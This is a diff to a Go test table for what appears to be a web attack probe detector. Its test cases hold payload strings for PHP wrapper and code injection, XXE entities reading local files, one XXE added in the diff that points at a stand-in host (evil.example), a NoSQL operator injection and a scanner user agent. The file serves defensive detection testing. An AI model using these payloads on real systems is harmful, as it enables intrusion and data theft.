@@ -77,6 +77,8 @@ func TestProbesOf(t *testing.T) {
 		{"php wrapper", parsers.Request{Query: "p=php://filter/convert.base64-encode/resource=x"}, phpInjection, true},
 		{"php code", parsers.Request{Query: "p=%3C?php+phpinfo();"}, phpInjection, true},
 		{"XXE", parsers.Request{Query: "x=%3C!DOCTYPE+a+[%3C!ENTITY+b+SYSTEM+%22file:///c%22%3E]%3E"}, xmlEntity, true},
+		{"XXE in a body", parsers.Request{Body: "body=%3C!DOCTYPE+a+[%3C!ENTITY+b+SYSTEM+%22http://evil.example/c%22%3E]%3E%3Ca/%3E"}, xmlEntity, true},
+		{"XXE that is written about", parsers.Request{Body: "text=do+not+send+%3C!ENTITY+b+SYSTEM+%22file:///c%22%3E"}, xmlEntity, false},
 		{"mongo", parsers.Request{Query: "user[$ne]=x"}, nosqlInjection, true},
 
 		{"sqlmap", parsers.Request{UserAgent: "sqlmap/1.8#stable (https://sqlmap.org)"}, scannerAgent, true},
